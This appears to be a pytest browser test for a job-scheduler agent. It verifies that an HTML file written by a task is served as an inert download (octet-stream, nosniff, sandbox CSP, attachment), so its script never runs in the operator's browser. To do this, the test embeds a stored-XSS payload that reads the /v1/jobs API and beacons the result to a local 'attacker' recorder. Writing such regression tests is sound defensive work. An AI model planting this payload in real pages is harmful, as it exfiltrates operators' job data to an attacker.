"""A page a task wrote, opened in the operator's browser at the agent's own address (layer 3:
a real `yurt agent --dev`, a raw_exec task running as `nobody`, the run's headless Chromium).

The attack: a task leaves `alloc/data/x.html`, whose script reads `/v1/jobs` as the page's
origin allows (the agent's) and sends it to a server of the attacker's; the operator opens the
file's `/v1/client/fs/cat` address. Served as data (runtime/api/fs.py: octet-stream,
`nosniff`, `Content-Security-Policy: sandbox`, `Content-Disposition: attachment`), the browser
saves it and runs nothing: the operator's tab keeps its title, and the attacker's recorder
(a local HTTP server) gets nothing before the browser loads a control page of the recorder's
own, whose beacon it does get.
"""

from __future__ import annotations

import tempfile
import threading
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.browser_support import UiAgent, UiBrowser, poll, start_ui_agent

pytestmark = pytest.mark.slow

RAN = "the task's script ran"


class Recorder(BaseHTTPRequestHandler):
    """Records every request's path and body; `/control` is a page that sends a beacon."""

    seen: list[tuple[str, bytes]]

    def do_GET(self) -> None:
        self._record(b"")
        page = b"<script>navigator.sendBeacon('/control-ran', 'x')</script>"
        self._answer(200, page, "text/html")

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self._record(self.rfile.read(length))
        self._answer(204, b"", "text/plain")

    def _record(self, body: bytes) -> None:
        self.server.seen.append((self.path, body))  # type: ignore[attr-defined]

    def _answer(self, status: int, body: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[tuple[str, list[tuple[str, bytes]]]]:
    """The attacker's server: its address, and what it was sent (path, body)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.seen = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server.seen  # type: ignore
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


@pytest.fixture
def page_agent() -> Iterator[UiAgent]:
    """An agent whose data dir `nobody` can reach (pytest's own temporary directories are
    0700, which keeps a task as `nobody` out of its allocation directory)."""
    with tempfile.TemporaryDirectory(prefix="yurt-task-files-") as base:
        Path(base).chmod(0o711)
        with start_ui_agent(Path(base)) as agent:
            yield agent


def page_job(recorder: str) -> dict[str, Any]:
    """A task as `nobody` that writes the page into the shared alloc/data, then stays up."""
    page = ("<!DOCTYPE html><html><head><title>x</title></head><body><script>"
            f"document.title = {RAN!r};"
            "var x = new XMLHttpRequest(); x.open('GET', '/v1/jobs', false); x.send();"
            f"navigator.sendBeacon('{recorder}/leak', x.responseText);"
            "</script></body></html>")
    script = 'printf "%s" "$PAGE" > "$NOMAD_ALLOC_DIR/data/x.html"; exec sleep 3600'
    task = {"Name": "t", "Driver": "raw_exec", "User": "nobody", "Env": {"PAGE": page},
            "Config": {"command": "/bin/sh", "args": ["-c", script]}}
    return {"Job": {"ID": "page-writer", "Type": "service", "TaskGroups": [{
        "Name": "g", "Tasks": [task], "RestartPolicy": {"Attempts": 0, "Mode": "fail"}}]}}


def saved_page(downloads: Path) -> bool:
    """The page saved whole in `downloads` (Chromium renames it once complete)."""
    saved = downloads / "x.html"
    return saved.is_file() and RAN in saved.read_text()


def test_a_page_a_task_wrote_runs_no_script_in_the_operators_browser(
        page_agent: UiAgent, browser: UiBrowser, tmp_path: Path,
        recorder: tuple[str, list[tuple[str, bytes]]]) -> None:
    address, seen = recorder
    page_agent.run_job(page_job(address))
    alloc_id = page_agent.wait_alloc("page-writer")["ID"]
    cat = f"/v1/client/fs/cat/{alloc_id}?path=alloc/data/x.html"
    poll(lambda: RAN in page_agent.api.get(cat).text, 20, "the task to write its page")
    assert page_agent.api.get(f"/v1/client/fs/stat/{alloc_id}",
                            params={"path": "alloc/data/x.html"}).json()["ContentType"] == (
        "text/html; charset=utf-8")  # what a sniffing server would have served it as

    browser.open(page_agent, "/ui/jobs", fresh=True)  # the operator's tab, on the agent
    title = browser.driver.title
    driver = browser.driver
    readat = f"/v1/client/fs/readat/{alloc_id}?path=alloc/data/x.html&offset=0"
    try:
        for n, url in enumerate((cat, readat)):
            saved = tmp_path / f"downloads-{n}"
            saved.mkdir()
            driver.execute_cdp_cmd("Browser.setDownloadBehavior",
                                   {"behavior": "allow", "downloadPath": str(saved)})
            driver.get(page_agent.address + url)
            assert driver.execute_script("return document.title") == title, url
            assert RAN not in driver.page_source, url
            # Saved as a file of its own name, not shown.
            poll(partial(saved_page, saved), 15, f"the browser to save {url}")

            answer = page_agent.api.get(url)
            assert answer.headers["content-type"] == "application/octet-stream"
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-security-policy"] == "sandbox"
            assert answer.headers["content-disposition"] == "attachment; filename*=UTF-8''x.html"
    finally:
        driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "default"})

    # A page that does run sends its beacon: once it arrived, the task's page had its chance.
    driver.get(address + "/control")
    poll(lambda: any(path == "/control-ran" for path, _ in seen), 15, "the control beacon")
    assert [path for path, _ in seen if path == "/leak"] == []
